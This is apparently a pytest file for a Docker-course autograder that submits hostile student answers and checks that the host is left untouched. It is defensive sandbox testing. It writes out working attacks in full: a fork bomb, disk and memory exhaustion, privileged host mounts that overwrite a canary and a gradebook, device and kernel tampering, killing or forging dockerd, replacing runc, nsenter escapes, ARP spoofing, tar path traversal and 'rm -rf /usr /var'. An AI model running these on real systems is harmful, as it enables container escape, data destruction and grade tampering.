"""What an answer may try, one row after the other: graded as in a class, with the machine compared before and after."""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker
import pytest

from environment.engines import SESSION_LABEL, Connection
from environment.engines.namespace import Limits
from environment.engines.namespace.groups import Groups, hierarchies
from environment.engines.namespace.state import state_folder
from environment.engines.session import current_session
from environment.images import catalogue
from graders.classroom import grading
from graders.classroom.grading import Task, grade_answer
from graders.classroom.history import Key
from graders.classroom.submission import Answer, File
from graders.connect import connect
from graders.exercise import COMMANDS, load
from graders.grading import grade

# One after another with the tests that grade classes: a machine that stands still for seconds makes Docker lose output.
pytestmark = [pytest.mark.engine, pytest.mark.slow, pytest.mark.xdist_group("class")]

ROOT = Path(__file__).parents[2]
BUSYBOX = "busybox:1.37"
COMMANDS_EXERCISE = "images/first-container"
FILES_EXERCISE = "dockerfiles/first-image"
LIMITS = Limits(disk=3 << 30, cpus=0.75)  # other tests run beside these
SEED = "attacks"
GIB = 1 << 30
RIGHT = "docker run --detach --name dd-web --label @MARK@ --publish 127.0.0.1::80 nginx:1.26 >/dev/null\n"
ALL = load(COMMANDS_EXERCISE).points
EVERYTHING = "--privileged --pid=host --network=host --ipc=host --uts=host --userns=host --volume /:/host"


# The machine, before and after


@dataclass
class Place:
    """What lies on this machine to be found, read, changed or reached, and the Engines that were used meanwhile."""

    mark: str
    folder: Path
    port: int
    container: str
    engines: list[Connection]

    def fill(self, text: str) -> str:
        """Attacks know where everything is."""
        words = {
            "MARK": self.mark,
            "CANARY": str(self.folder / "canary"),
            "GRADEBOOK": str(self.folder / "gradebook.db"),
            "PORT": str(self.port),
            "CONTAINER": self.container,
        }
        return re.sub("@([A-Z]+)@", lambda found: words[found[1]], text)


class Listener:
    """A service of this machine that counts who comes."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("", 0))
        self.port: int = self.socket.getsockname()[1]
        self.came: list[object] = []
        self.thread = threading.Thread(target=self._listen, daemon=True)
        self.thread.start()

    def _listen(self) -> None:
        while True:
            connection, peer = self.socket.accept()
            with connection:
                if connection.recv(4) == b"stop":
                    return
                self.came.append(peer)

    def stop(self) -> list[object]:
        with socket.create_connection(("127.0.0.1", self.port)) as connection:
            connection.sendall(b"stop")
        self.thread.join()
        self.socket.close()
        return self.came


def of_this_machine(host: docker.DockerClient, place: Place) -> dict[str, object]:
    """What no answer may change, as it is now."""
    api = host.api
    ours = {"label": f"{SESSION_LABEL}={current_session()}"}
    own = api.inspect_container(place.container)
    modules = Path("/proc/modules")
    return {
        "container": (own["Id"], own["State"]["StartedAt"], own["State"]["Running"], own["RestartCount"]),
        "containers": sorted(found["Id"] for found in api.containers(all=True, filters=ours)),
        "networks": sorted(found["Id"] for found in api.networks(filters=ours)),
        "volumes": sorted(found["Name"] for found in api.volumes(filters=ours)["Volumes"] or []),
        "images": sorted(found["Id"] for found in api.images(filters=ours)),
        "course images": {i.name: host.images.get(i.name).id for i in catalogue() if host.images.list(i.name)},
        "started": started("dockerd"),
        "files": {
            file.name: (file.read_bytes(), file.stat().st_mtime_ns, file.stat().st_mode, file.stat().st_uid)
            for file in place.folder.iterdir()
        },
        "core pattern": Path("/proc/sys/kernel/core_pattern").read_text(),
        "modules": {line.split()[0] for line in modules.read_text().splitlines()} if modules.exists() else set(),
        "name": socket.gethostname(),
        "children": children(),
    }


def started(name: str) -> set[tuple[str, str]]:
    """The processes of a name in this machine's own namespace, each with the time when it began."""
    here = Path("/proc/self/ns/pid").readlink()
    found = {}
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if (folder / "comm").read_text().strip() == name and (folder / "ns/pid").readlink() == here:
                found[folder.name] = (folder / "stat").read_text().rpartition(")")[2].split()
        except (FileNotFoundError, ProcessLookupError):
            continue
    # A process that starts another is there twice for a moment, until the new one has its own program.
    return {(number, stat[19]) for number, stat in found.items() if stat[1] not in found}


def children() -> set[str]:
    """The processes that this one started and that still run."""
    found: set[str] = set()
    for task in Path("/proc/self/task").iterdir():
        found |= set((task / "children").read_text().split())
    return found


def running_with(mark: str) -> list[str]:
    """The command lines of this machine that hold a word."""
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            line = (folder / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except (FileNotFoundError, ProcessLookupError):
            continue
        if mark in line and int(folder.name) != os.getpid():
            found.append(line)
    return found


def made_on(host: docker.DockerClient, mark: str) -> list[str]:
    """All on this machine's Engine that names a word, however it is called."""
    found = {
        "container": host.api.containers(all=True),
        "network": host.api.networks(),
        "volume": host.api.volumes()["Volumes"] or [],
        "image": host.api.images(all=True),
    }
    return [
        f"{kind} {json.dumps(one)}" for kind, all_of_them in found.items() for one in all_of_them if mark in str(one)
    ]


def left_of(name: str) -> list[str]:
    """What a throwaway Engine has on this machine: control groups, processes, folders, loop devices, mounts."""
    found = [str(place.mount / name) for place in hierarchies() if (place.mount / name).exists()]
    found += [f"process {number}" for number in Groups(name).processes()]
    found += [str(folder) for folder in (state_folder() / "engines").glob(name)]
    for file in Path("/sys/block").glob("loop*/loop/backing_file"):
        try:
            found += [str(file)] if name in file.read_text() else []
        except OSError:  # another Engine's, which ended just now
            continue
    return found + [line for line in Path("/proc/mounts").read_text().splitlines() if name in line]


def disk_used() -> int:
    """Bytes of this machine's disk that Engines in namespaces leave; those that run beside these tests use it too."""
    command = ["du", "-s", "--block-size=1", "--exclude=engines", state_folder()]
    counted = subprocess.run(command, capture_output=True, text=True, check=True)
    return int(counted.stdout.split()[0])


@pytest.fixture(scope="module")
def place(host: docker.DockerClient, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """Canaries: a file, a gradebook, a container with a network and a volume, a service."""
    folder = tmp_path_factory.mktemp("outside")
    (folder / "canary").write_text("nothing happened\n")
    with sqlite3.connect(folder / "gradebook.db") as gradebook:
        gradebook.execute("create table grade (learner text, score real)")
        gradebook.execute("insert into grade values ('attacker', 0)")
    gradebook.close()
    name = f"drydock-canary-{uuid.uuid4().hex[:8]}"
    labels = {SESSION_LABEL: current_session()}
    network, volume = host.networks.create(name, labels=labels), host.volumes.create(name, labels=labels)
    container = host.containers.run(
        BUSYBOX, ["sleep", "86400"], name=name, network=name, volumes=[f"{name}:/v"], labels=labels, detach=True
    )
    connect("namespace", internet=False).close()  # what all Engines share is made before anything is measured
    yield Place("", folder, 0, name, [])
    container.remove(force=True)
    network.remove()
    volume.remove()


@pytest.fixture(autouse=True)
def untouched(host: docker.DockerClient, place: Place, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Compare this machine before and after."""
    place.mark = f"atk{uuid.uuid4().hex[:10]}"
    place.engines.clear()

    def connected(*words: Any, **choices: Any) -> Connection:
        place.engines.append(connect(*words, **choices))
        return place.engines[-1]

    monkeypatch.setattr(grading, "connect", connected)
    service = Listener()
    place.port = service.port
    before = of_this_machine(host, place)
    used, skew = disk_used(), time.time() - time.monotonic()
    yield
    assert service.stop() == []
    assert of_this_machine(host, place) == before
    assert made_on(host, place.mark) == []
    assert running_with(place.mark) == []
    for engine in place.engines:
        assert left_of(str(getattr(engine, "name", "found"))) == []
    assert abs(time.time() - time.monotonic() - skew) < 1
    assert disk_used() < used + GIB


# Grading, as a class does


def graded(exercise: str, files: Sequence[File], seconds: float = 60) -> dict[str, Any]:
    """Grade an answer as a worker does."""
    answer = Answer(exercise, tuple(files))
    verdict = grade_answer(
        Task(
            Key(exercise, answer.digest, SEED, grading.grader_digest(load(exercise)), "namespace"),
            answer,
            "namespace",
            seconds,
            LIMITS,
        )
    )
    print(json.dumps(verdict, indent=1))
    return verdict


def files_of(exercise: str, changed: Mapping[str, bytes | None]) -> list[File]:
    """The files of the model solution, with some changed, or gone where they are None."""
    folder = load(exercise).folder / "solution"
    files = {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    return [File(name, content) for name, content in {**files, **changed}.items() if content is not None]


def passes_next() -> None:
    """The answer that comes after is graded as if nothing had happened."""
    verdict = graded(COMMANDS_EXERCISE, [File(COMMANDS, RIGHT.replace("@MARK@", "right").encode())])
    assert (verdict["outcome"], verdict["points"]) == ("passed", ALL)


@dataclass(frozen=True)
class Row:
    """One thing that an answer tries. `seen` is what its own commands must have said: it did try."""

    words: str
    commands: str
    points: tuple[int, ...] = (0,)
    seen: str = ""
    says: str = ""
    """The sentence with which it is ungradable, where it must be."""
    exercise: str = COMMANDS_EXERCISE
    seconds: float = 60


PYTHON = "python3 - <<'END'\n{}\nEND\n"
MANY = """
import http.client, itertools, json, socket, sys
class Engine(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/var/run/docker.sock")
for number in itertools.count():
    body = json.dumps(dict({what}, Labels={{"@MARK@": ""}}))
    engine = Engine("docker")
    engine.request("POST", "{path}", body, {{"Content-Type": "application/json"}})
    answer = engine.getresponse()
    if answer.status != 201 or number >= 10000:
        print(number, "made, then", answer.status, answer.read()[:200])
        sys.exit(9)
"""
FILL_THE_DISK = (
    "fallocate -l $(($(df --output=avail --block-size=1 /var/lib/docker | tail -n 1) - 1000000)) /var/lib/docker/big\n"
    "head -c 8G /dev/zero >/var/lib/docker/rest; head -c 8G /dev/zero >/rest\n"
)
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
FAKE_ENGINE = """
import http.server, json, os, signal, socketserver, subprocess, sys
dockerd = int(subprocess.check_output(["pidof", "dockerd"]).split()[0])
parent = int(open(f"/proc/{dockerd}/stat").read().rpartition(")")[2].split()[1])
os.kill(parent, signal.SIGSTOP)  # it would end, and all with it
os.kill(dockerd, signal.SIGKILL)
os.unlink("/var/run/docker.sock")
class Forged(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        said = json.dumps({"Id": "dd-web", "Name": "/dd-web", "State": {"Running": True, "Status": "running"}}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(said)))
        self.end_headers()
        self.wfile.write(said)
    do_POST = do_DELETE = do_GET
class Server(socketserver.ThreadingUnixStreamServer):
    def get_request(self):
        return super().get_request()[0], ("engine", 0)
if os.fork():
    sys.exit(9)
os.setsid()
Server("/var/run/docker.sock", Forged).serve_forever()
"""
LOOK_AROUND = f"""
docker run --rm --label @MARK@ {EVERYTHING} {BUSYBOX} sh -c '
  for top in /host /host/proc/1/root /proc/1/root; do
    cat $top@CANARY@; echo changed >$top@CANARY@; echo 100 >$top@GRADEBOOK@; ls $top{ROOT}
  done
  find / -name gradebook.db | grep . || echo no gradebook
  ps | grep -c {"@CONTAINER@"} ; ls /host/run/drydock-namespace
  exit 9' 2>&1 | tail -n 200 >seen
grep -c "No such file" seen; grep "no gradebook" seen
grep -q "nothing happened" seen && echo it: read the canary
exit 9
"""
DEVICES = f"""
docker run --rm --label @MARK@ {EVERYTHING} --volume /dev:/d --volume /proc:/p {BUSYBOX} sh -c '
  while read major minor size name; do
    [ "$major" -gt 0 ] 2>/dev/null && mknod /tmp/disk b $major $minor && head -c 512 /tmp/disk && echo it: read $name
    rm -f /tmp/disk
  done </proc/partitions
  mknod /tmp/mem c 1 1 && head -c 16 /tmp/mem && echo it: read memory
  cat /dev/loop0 /d/loop0 /d/vda /d/sda /d/mem /p/kcore | head -c 16 | grep . && echo it: read a device
  mount -t ext4 /dev/loop0 /mnt && echo it: mounted a disk
  echo "|/bin/false" >/proc/sys/kernel/core_pattern && echo it: changed the core pattern
  echo h >/proc/sysrq-trigger && echo it: reached the kernel
  echo 1 >/p/sys/vm/drop_caches && echo it: dropped caches
  for file in $(find /sys/fs/cgroup -name "*limit_in_bytes" -o -name pids.max -o -name memory.max | head -n 3); do
    echo 99999999999 >$file && cat $file
  done
  hostname taken' 2>&1 | grep "^it:"
docker run --rm --label @MARK@ --device /dev/vda {BUSYBOX} true
echo looked; exit 9
"""
MODULES = """
docker run --rm --label @MARK@ --privileged --volume /lib:/lib busybox:1.37 modprobe dummy && echo it: loaded one
python3 - <<'END'
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name, call in {"init": 175, "finit": 313, "delete": 176, "kexec": 246, "reboot": 169}.items():
    print(name, libc.syscall(call, 0, 0, 0, 0) , ctypes.get_errno())
END
exit 9
"""
PORTS = """
for address in 127.0.0.1 localhost 172.17.0.1 198.18.0.1 10.0.2.2 host.docker.internal $(hostname -I); do
  timeout 1 bash -c "echo hello >/dev/tcp/$address/@PORT@" && echo it: reached $address
done
docker run --rm --label @MARK@ --network host busybox:1.37 timeout 2 nc 127.0.0.1 @PORT@ </dev/null && echo it: reached
docker run --detach --label @MARK@ --name dd-web --publish 0.0.0.0:@PORT@:80 nginx:1.26 && echo published
exit 9
"""
OUTSIDE = """
getent hosts example.org || echo no name
for address in 1.1.1.1 8.8.8.8 169.254.169.254; do
  timeout 2 bash -c "echo >/dev/tcp/$address/80" && echo it: reached $address
done
docker run --rm --label @MARK@ busybox:1.37 timeout 3 wget -q -O - http://example.org/ && echo it: reached a page
docker run --rm --label @MARK@ --network host busybox:1.37 timeout 3 nslookup example.org 8.8.8.8 && echo it: asked
docker pull hello-world && echo it: pulled
printf 'FROM busybox:1.37\\nADD http://127.0.0.1:@PORT@/ /x\\n' | docker build - && echo it: added
echo tried; exit 9
"""
CLOCK = """
before=$(date +%Y)
date --set 2001-01-01
docker run --rm --label @MARK@ --privileged busybox:1.37 date -s 2001-01-01
[ "$(date +%Y)" = "$before" ] && echo the year is as it was
exit 9
"""
LYING_TOOLS = """
mkdir lie; printf '#!/bin/busybox sh\\necho all is well\\n' >lie/liar; chmod +x lie/liar
printf 'FROM busybox:1.37\\nRUN ["/bin/busybox", "rm", "/bin/sh", "/bin/wget"]\\nCOPY liar /bin/wget\\nCOPY liar /bin/sh\\nLABEL @MARK@=1\\n' >lie/Dockerfile
docker build --quiet --tag liar:1 --tag busybox:1.37 lie
docker run --rm liar:1 sh
(setsid sh -c 'while :; do docker tag liar:1 busybox:1.37; done' >/dev/null 2>&1 &)
exit 9
"""
NOTICE_EVERYWHERE = """
docker exec dd-live sh -c "echo '$NOTICE' > /usr/share/nginx/html/index.html"
docker run --detach --label @MARK@ --name dd-fresh nginx:1.26
docker exec dd-fresh sh -c "echo '$NOTICE' > /usr/share/nginx/html/index.html"
"""
"""Wrong: the second container should show the old page, and it takes the course's busybox to see that."""
KILLER = """
while :; do
  docker ps --all --quiet --filter label=org.drydock.run | xargs -r docker rm --force
  docker ps --all --quiet --filter name=drydock- | xargs -r docker rm --force
done >/dev/null 2>&1 &
"""

OWN_DNS = """
cat >dns.py <<'END'
import pathlib, socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("", 53))
while True:
    asked, whom = server.recvfrom(512)
    name = asked[13:13 + asked[12]].decode()
    known = dict(line.split() for line in pathlib.Path("/known").read_text().splitlines())
    here = name in known and asked[-4:-2] == b"\\0\\1"
    answer = b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\1\\0\\4" + socket.inet_aton(known.get(name, "0.0.0.0")) if here else b""
    print(name, flush=True)
    server.sendto(asked[:2] + b"\\x81\\x80\\0\\1\\0" + bytes([here]) + b"\\0\\0\\0\\0" + asked[12:] + answer, whom)
END
address() { docker inspect --format '{{.NetworkSettings.Networks.bridge.IPAddress}}' $1; }
docker create --label @MARK@ --name dns python:3.13-slim python /dns.py
: >known; docker cp dns.py dns:/; docker cp known dns:/
docker start dns
docker run --detach --name dd-soundings --dns $(address dns) redis:8.0
docker run --detach --name dd-chart --dns $(address dns) --env STORE=dd-soundings dd-chart:1.0
for name in dd-soundings dd-chart; do docker exec dns sh -c "echo $name $(address $name) >>/known"; done
docker exec dd-chart getent hosts dd-soundings; docker logs dns; exit 9
"""

STOLEN_ADDRESS = """
docker network create dd-toll
docker run --detach --name dd-toll-db --network dd-toll redis:8.0
docker run --detach --name dd-toll-api --network dd-toll --env DB=dd-toll-db dd-toll-api:1.0
docker run --detach --name dd-toll-web --network dd-toll --env API=dd-toll-api --publish 127.0.0.1::80 dd-toll-web:1.0
db=$(docker inspect --format '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' dd-toll-db)
docker run --detach --label @MARK@ --name thief --network dd-toll --cap-add NET_ADMIN --cap-add NET_RAW busybox:1.37 sh -c "
    ip address add $db/16 dev eth0
    for turn in \\$(seq 600); do arping -U -c 1 -I eth0 $db; usleep 100000; done"
for turn in $(seq 50); do
    docker run --rm --label @MARK@ --network container:dd-toll-web busybox:1.37 nc -w 1 $db 6379 </dev/null || break
done
echo taken; exit 9
"""

ODD_FILES = r"""
mkfifo answers.toml; mknod device c 1 3; mknod disk b 7 0
ln -s @CANARY@ link; ln -s / root; ln -s ../../.. up; ln commands.sh second
truncate -s 10G sparse; touch -- -rf "$(printf 'a\\nb')" "$(printf '\\377')"
mkdir many; for n in $(seq 20); do touch many/$n.{1..1000}; done
mkdir -p $(printf 'deep/%.0s' $(seq 300))
"""
EVIL_ARCHIVE = """
import io, os, tarfile
folder = os.getcwd()
name = os.path.basename(folder)
with tarfile.open("/evil.tar", "w") as archive:
    def add(member, content=b"changed", **about):
        info = tarfile.TarInfo(member)
        info.size = len(content)
        for key, value in about.items():
            setattr(info, key, value)
        archive.addfile(info, io.BytesIO(content))
    link, hard = dict(content=b"", type=tarfile.SYMTYPE), dict(content=b"", type=tarfile.LNKTYPE)
    add("@CANARY@")
    add(f"{name}/../../../../../../..@CANARY@")
    add(f"{name}/x", linkname=os.path.dirname("@CANARY@"), **link)
    add(f"{name}/x/canary")
    add(f"{name}/x/gradebook.db")
    add(f"{name}/h", linkname="@CANARY@", **hard)
    add(f"{name}/h", mode=0o6777)
    add(f"{name}/", linkname=os.path.dirname("@CANARY@"), **link)
    add(f"{name}/canary")
os.remove("/usr/bin/tar")
with open("/usr/bin/tar", "w") as tar:
    tar.write("#!/bin/sh\\ncat /evil.tar\\n")
os.chmod("/usr/bin/tar", 0o755)
"""

FULL_VOLUME = """
place=$(docker volume inspect --format '{{.Mountpoint}}' dd-berths-data)
ln -s /var/lib/docker "$place/engine"
ln -s /proc/1/root "$place/root"
mkfifo "$place/pipe"
python3 -c "
import os
os.chdir('$place')
os.mkdir('many')
for number in range(20_000):
    os.mknod(f'many/{number}')
"
(setsid sh -c "while :; do echo @MARK@; done >'$place/grows'" >/dev/null 2>&1 &)
ls "$place/many" | wc -l
exit 9
"""
"""What somebody may put into a volume who has the Engine's machine."""

LAMPS = (load("swarm/first-service").folder / "solution" / COMMANDS).read_text()
SWARM_OUTSIDE = (
    """
docker service create --detach --no-resolve-image --name @MARK@ --mode global --network host --cap-add ALL \\
    --mount type=bind,source=/,target=/host busybox:1.37 sleep 1d >/dev/null
until task=$(docker ps --quiet --filter name=@MARK@) && [ "$task" ]; do :; done
{
    docker exec $task cat /host@GRADEBOOK@ 2>/dev/null || echo no gradebook
    docker exec $task nc -w 2 127.0.0.1 @PORT@ </dev/null 2>/dev/null && echo a service || echo no service
    docker swarm leave --force >/dev/null
    token=SWMTKN-1-$(printf %050d 0)-$(printf %025d 0)
    timeout 10 docker swarm join --token $token 127.0.0.1:@PORT@ 2>/dev/null || echo no swarm
} >found
"""
    + LAMPS
    + "\ncat found; exit 9\n"
)

ROWS = [
    Row("fork bomb", PYTHON.format(FORK_BOMB)),
    Row(
        "fill the disk",
        FILL_THE_DISK + "df --output=avail /var/lib/docker | tail -n 1\n" + RIGHT + "exit 9\n",
        seen="No space left on device",
    ),
    Row(
        "fill memory",
        "tail /dev/zero\ndocker run --rm --label @MARK@ busybox:1.37 tail /dev/zero; echo ended: $?; exit 9\n",
        seen="ended: 137",
    ),
    Row(
        "fill memory through a file system", "mount -t tmpfs -o size=90% none /mnt && head -c 40G /dev/zero >/mnt/big\n"
    ),
    Row(
        "endless build",
        "printf 'FROM busybox:1.37\\nLABEL @MARK@=1\\nRUN while :; do :; done\\n' | docker build -",
        seen="did not end in time",
    ),
    Row(
        "endless logs at full speed",
        "docker run --detach --label @MARK@ --name dd-web --publish 127.0.0.1::80 nginx:1.26 yes @MARK@",
        points=(5,),  # it runs, and all but the page is right
    ),
    Row("endless output", "exec yes @MARK@", seen="did not end in time"),
    Row(
        "a container that ignores SIGTERM",
        "docker run --detach --label @MARK@ busybox:1.37 sh -c \"trap '' TERM; while :; do sleep 1; done\"\n" + RIGHT,
        points=(ALL,),
    ),
    Row(
        "one that restarts for ever",
        "docker run --detach --label @MARK@ --restart always busybox:1.37 false\n" + RIGHT,
        points=(ALL,),
    ),
    Row(
        "10,000 containers",
        PYTHON.format(MANY.format(path="/containers/create", what='{"Image": "busybox:1.37", "Cmd": ["true"]}')),
    ),
    Row("10,000 networks", PYTHON.format(MANY.format(path="/networks/create", what='{"Name": f"@MARK@{number}"}'))),
    Row("10,000 volumes", PYTHON.format(MANY.format(path="/volumes/create", what='{"Name": f"@MARK@{number}"}'))),
    Row("--privileged --pid=host --network=host and mounts of everything", LOOK_AROUND, seen="no gradebook"),
    Row("devices, /proc and /sys", DEVICES, seen=r"\nlooked"),
    Row("kernel modules", MODULES, seen=r"init -1 1\nfinit -1 1\ndelete -1 1\nkexec -1 1\nreboot -1 1"),
    Row("ports of other services", PORTS, points=(4,), seen="published"),
    Row(
        "docker system prune -a --volumes",
        "docker rm --force $(docker ps --all --quiet); docker system prune --all --force --volumes",
    ),
    Row(
        "docker system prune -a --volumes after a right answer",
        RIGHT + "docker system prune --all --force --volumes",
        points=(ALL,),
    ),
    Row(
        "stopping the Engine",
        RIGHT + "p=$(cat /run/docker.pid); kill -KILL $p; tail --pid=$p --follow /dev/null\n",
        says=r"is gone|has ended|stopped answering",
    ),
    Row("rebooting the Engine", RIGHT + "reboot -f; kill -KILL 1; kill -TERM 1; wait\n", says="is gone|has ended"),
    Row(
        "reconfiguring the Engine",
        RIGHT
        + "mkdir -p /etc/docker; echo '{\"debug\": true}' >/etc/docker/daemon.json; kill -HUP $(cat /run/docker.pid)",
        says="/etc/docker of the Engine was replaced",
    ),
    Row(
        "relabelling its own objects as Drydock's",
        RIGHT.replace(
            "--name",
            f"--label {SESSION_LABEL}=1@1 --label org.drydock.exercise={COMMANDS_EXERCISE} --label org.drydock.run=x --name",
        )
        + f"docker network create --label {SESSION_LABEL}={current_session()} @MARK@",
        points=(ALL,),
    ),
    Row(
        "an image named like a course image",
        "docker run --name @MARK@ busybox:1.37 sh -c 'mkdir /www; echo nginx >/www/index.html'\n"
        'docker commit --change \'CMD ["httpd", "-f", "-h", "/www"]\' @MARK@ nginx:1.26\n' + RIGHT,
        points=(5,),  # a page answers; it is not nginx's
    ),
    Row(
        "an image named like a course image, whose tools lie",
        NOTICE_EVERYWHERE + LYING_TOOLS,
        exercise="images/exec-or-run",
        seen="all is well",
        points=(6,),  # of 7: the check that the lie was made for saw the truth
    ),
    Row(
        "a course image whose layer is replaced on the Engine's disk",
        NOTICE_EVERYWHERE
        + """
        layer=$(docker image inspect --format '{{.GraphDriver.Data.UpperDir}}' busybox:1.37)
        mkdir /var/lib/docker/lie; cp -a "$layer/." /var/lib/docker/lie
        printf '#!/bin/busybox sh\\necho all is well\\n' >liar; chmod +x liar
        for tool in wget sh; do rm -f /var/lib/docker/lie/bin/$tool; cp liar /var/lib/docker/lie/bin/$tool; done
        rm "$layer"; mv /var/lib/docker/lie "$layer"
        docker run --rm busybox:1.37 sh; exit 9
        """,
        exercise="images/exec-or-run",
        seen="all is well",
        says="The layer .* was replaced",
    ),
    Row(
        "a page that comes from elsewhere than the container",
        RIGHT.replace("nginx:1.26", "nginx:1.26 sleep 9999") + "mkdir page; echo nginx >page/index.html\n"
        "(cd page; setsid python3 -m http.server 9999 >/dev/null 2>&1 &)\n"
        "port=$(docker port dd-web 80/tcp | cut -d: -f2)\n"
        "iptables -t nat -I OUTPUT -p tcp --dport $port -j REDIRECT --to-ports 9999\n"
        'for turn in $(seq 50); do curl -s "http://127.0.0.1:$port/" && break; done; exit 9\n',
        seen="\\nnginx",
        says="A rule that Docker has not made leads packets elsewhere",
    ),
    Row(
        "killing the grader's containers",
        NOTICE_EVERYWHERE + KILLER,
        exercise="images/exec-or-run",
        points=(0, 1, 2, 3, 4, 5, 6),
    ),
    Row("DNS and HTTP to the outside", OUTSIDE, seen=r"\ntried"),
    Row("a name server of its own", OWN_DNS, exercise="networking/names", points=(5,), seen="dd-soundings"),
    Row(
        "an address taken from its neighbour by ARP",
        STOLEN_ADDRESS,
        exercise="networking/tiers",
        points=tuple(range(load("networking/tiers").points)),
        seen=r"\ntaken",
    ),
    Row(
        "leaving background processes",
        RIGHT + "(setsid bash -c 'exec -a @MARK@ sleep 99999' &) ; nohup sleep 99999 >/dev/null 2>&1 &",
        points=(ALL,),
    ),
    Row(
        "a volume of many files, links out of it, and a file that grows",
        (load("volumes/keep-the-data").folder / "solution" / COMMANDS).read_text() + FULL_VOLUME,
        exercise="volumes/keep-the-data",
        seconds=300,
        points=tuple(range(load("volumes/keep-the-data").points + 1)),
        seen=r"\n20000",
    ),
    Row(
        "a swarm whose services reach for the machine, and one that joins another's",
        LAMPS + SWARM_OUTSIDE,
        exercise="swarm/first-service",
        points=(load("swarm/first-service").points,),
        seen=r"\nno gradebook\nno service\nno swarm",
        seconds=200,
    ),
    Row(
        "a service of 5,000 tasks that end at once",
        LAMPS + "docker service create --detach --no-resolve-image --name @MARK@ --replicas 5000 --restart-delay 0s "
        "busybox:1.37 true >/dev/null",
        exercise="swarm/first-service",
        says="took longer than 40 seconds",
        seconds=40,
    ),
    Row("changing the clock", CLOCK, seen="the year is as it was"),
    Row("files in the folder that are none", ODD_FILES, exercise="images/shared-kernel"),
    Row(
        "an archive that leads out of the folder, from another tar",
        RIGHT + PYTHON.format(EVIL_ARCHIVE) + "tar | wc -c; exit 9",
        points=(ALL,),
        seen=r"\n\d{5,}",
    ),
    Row(
        "the exercise's own container restarts for ever",
        "docker run --detach --label @MARK@ --restart always --name dd-web nginx:1.26 sh -c 'exit 1'\n"
        "for turn in 1 2 3 4; do docker wait dd-web; done",
        points=(0,),
    ),
    Row(
        "another runc",
        RIGHT + "p=$(readlink -f $(command -v runc)); cp $p /tmp/runc; rm $p; "
        "printf '#!/bin/sh\\nexec /tmp/runc \"$@\"\\n' >$p; chmod +x $p",
        says="runc of the Engine was replaced",
    ),
    Row(
        "another runc, mounted over it from a privileged container",
        RIGHT + f"docker run --rm --label @MARK@ {EVERYTHING} debian:trixie-slim "
        "nsenter --target 1 --mount -- mount --bind /usr/bin/true /usr/sbin/runc || echo not mounted",
        says="runc of the Engine was (replaced|changed)|mounted over",
    ),
    Row(
        "another dockerd, from a privileged container with nsenter",
        RIGHT
        + f"docker run --detach --label @MARK@ {EVERYTHING} debian:trixie-slim nsenter --target 1 --mount --pid --net -- sh -c "
        '\'old=$(cat /run/docker.pid); kill -STOP $(cut -d" " -f4 /proc/$old/stat); kill -KILL $old; rm /var/run/docker.sock; '
        "dockerd --host=unix:///var/run/docker.sock --data-root=/var/lib/docker'\nwhile [ -e /var/run/docker.sock ]; do :; done\n",
        says="has ended|took longer",  # nobody answers at the socket that the grader uses
        seconds=20,
    ),
    Row(
        "forged answers on the Engine's socket",
        PYTHON.format(FAKE_ENGINE) + "docker ps",
        says="has ended|took longer",
        seconds=20,
    ),
]


STANDARD = {
    "fork bomb",
    "--privileged --pid=host --network=host and mounts of everything",
    "stopping the Engine",
    "an image named like a course image, whose tools lie",
    "another dockerd, from a privileged container with nsenter",
    "forged answers on the Engine's socket",
    "killing the grader's containers",
    "DNS and HTTP to the outside",
    "leaving background processes",
    "a name server of its own",
    "a swarm whose services reach for the machine, and one that joins another's",
    "a volume of many files, links out of it, and a file that grows",
    "files in the folder that are none",
    "privileged steps",
    "a secret of the grader's machine",
    "answers the grader alone",
    "streams for ever",
    "CRLF",
    "a docker folder with a context",
    "files of the machine",
    "a project that tells files of the machine",
    "a project that may do everything",
}
"""The rows that each change is tried with: one for each way out, and for each way to be believed."""


def named(words: str, *values: object) -> Any:
    """A row as a parameter of a test, called by its words."""
    return pytest.param(*values, id=words.replace(" ", "-"), marks=[] if words in STANDARD else [pytest.mark.all])


def attacks(rows: Sequence[Row]) -> list[Any]:
    return [named(row.words, row) for row in rows]


@pytest.mark.parametrize("row", attacks(ROWS))
def test_commands_that_attack_get_points_only_for_what_was_seen(row: Row, place: Place) -> None:
    files = [File(COMMANDS, place.fill(row.commands).encode())]
    verdict = graded(row.exercise, files, row.seconds)
    said = "\n".join([verdict.get("message", ""), *verdict.get("notes", [])])
    assert re.search(row.seen, said), said
    assert "\nit: " not in said
    if row.says:
        assert verdict["outcome"] == "ungradable"
        assert re.search(row.says, said), said
    else:
        assert verdict["points"] in row.points
        assert verdict["outcome"] == "ungradable" or (verdict["outcome"] == "passed") == (
            verdict["points"] == verdict["max_points"]
        )


def test_the_answer_after_attacks_on_the_engine_is_graded_as_if_nothing_had_happened() -> None:
    for commands in (
        "kill -KILL $(cat /run/docker.pid)",
        "docker system prune --all --force --volumes",
        "rm -rf /usr /var",
    ):
        graded(COMMANDS_EXERCISE, [File(COMMANDS, commands.encode())])
    passes_next()


# The build, and what the image runs

BASE = "FROM python:3.13-slim\nLABEL @MARK@=1\nWORKDIR /app\nCOPY app.py make_page.py menu.csv ./\n"
PAGE_AND_APP = 'RUN python make_page.py\nCMD ["python", "app.py"]\n'
PAGE_AND_OWN_APP = 'COPY own.py ./\nRUN python make_page.py\nCMD ["python", "own.py"]\n'
APP = """
import http.server
PAGE = open("/app/page.html", "rb").read()
class App(http.server.BaseHTTPRequestHandler):
